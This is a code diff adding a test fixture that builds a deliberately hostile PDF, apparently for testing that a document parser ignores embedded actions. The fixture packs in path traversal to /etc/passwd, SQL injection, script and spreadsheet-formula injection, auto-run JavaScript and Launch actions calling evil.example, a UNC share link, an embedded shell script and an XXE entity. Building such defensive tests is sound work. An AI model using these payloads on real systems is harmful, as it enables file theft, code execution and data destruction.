@@ -139,3 +139,30 @@ def no_numbers() -> bytes:
         b"BT /F1 1e30 Tf 1e38 -1e38 Td (Indikator Target 2024) Tj ET\n1e38 1e38 m -1e38 1e38 l S\n0 0 1e39 1e39 re S\n"
     )
     return pdf(report(content=stream(LINES + odd * 40)))
+
+
+def talking() -> bytes:
+    """A page with all that a PDF can ask a reader to do or believe: names that are paths, code, programs, addresses."""
+    evil = b"(../../../../tmp/pwned.txt'\\); DROP TABLE document_rows;--<script>alert\\(1\\)</script>=cmd|'/C calc'!A0)"
+    start = b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example/'\\))/Next<</S/Launch/F%b/Next<</S/URI/URI" % evil
+    act = start + b"(http://evil.example/x)/Next<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>>>>>>>"
+    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 30 0 R>>"
+    attached = b"<</Type/Filespec/F%b/UF%b/EF<</F 32 0 R>>>>" % (evil, evil)
+    catalog = (
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction 30 0 R/AA<</WC 30 0 R>>/Names<</EmbeddedFiles<</Names[%b 31 0 R]>>"
+        b"/JavaScript<</Names[(x)30 0 R]>>>>/Outlines 33 0 R/Metadata 34 0 R/PageLabels<</Nums[0<</P%b>>]>>>>"
+    )
+    page = PAGE.replace(b"/Contents", b"/AA<</O 30 0 R>>/Annots[35 0 R]/Contents")
+    objects = report([page]) | {
+        1: catalog % (evil, evil),
+        9: FONT.replace(b"Helvetica", b"#2E#2E#2F#2E#2E#2Fetc#2Fpasswd"),
+        30: act,
+        31: attached,
+        32: stream(b"#!/bin/sh\ntouch pwned\n", b"/Type/EmbeddedFile"),
+        33: b"<</Type/Outlines/Count 1/First 36 0 R/Last 36 0 R>>",
+        34: stream(b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", b"/Type/Metadata/Subtype/XML"),
+        35: link,
+        36: b"<</Title%b/Parent 33 0 R/A 30 0 R>>" % evil,
+        37: b"<</Title%b/Author%b/Producer%b/CreationDate%b>>" % (evil, evil, evil, evil),
+    }
+    return pdf(objects).replace(b"/Root 1 0 R", b"/Root 1 0 R/Info 37 0 R")
